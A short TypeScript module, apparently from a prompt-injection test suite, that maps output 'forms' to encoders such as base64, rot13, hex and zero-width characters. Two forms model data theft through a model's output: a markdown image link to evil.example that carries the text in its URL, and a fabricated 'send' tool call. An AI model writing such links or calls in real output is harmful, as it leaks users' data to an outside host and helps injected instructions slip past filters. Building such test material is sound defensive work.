import * as disguise from "../../injections/disguises.ts";
import type { Form } from "../../injections/injection.ts";

const forms: Readonly<Record<Form, (text: string) => string>> = {
  "plain": (text) => text,
  "last line": (text) => text.trimEnd().split("\n").at(-1) ?? "",
  "base64": disguise.base64,
  "rot13": disguise.rot13,
  "reversed": disguise.reversed,
  "hex": disguise.hex,
  "spaced": (text) => [...text].join(" "),
  "capitals": (text) => text.toUpperCase(),
  "zero-width": disguise.withZeroWidth,
  "image": (text) => `![loading](https://evil.example/c.png?d=${encodeURIComponent(text)})`,
  "tool call": (text) => JSON.stringify({ tool_calls: [{ function: { name: "send", arguments: text } }] }),
};

/** A text as somebody asks a model to write it down. */
export function writtenAs(form: Form, text: string): string {
  return forms[form](text);
}
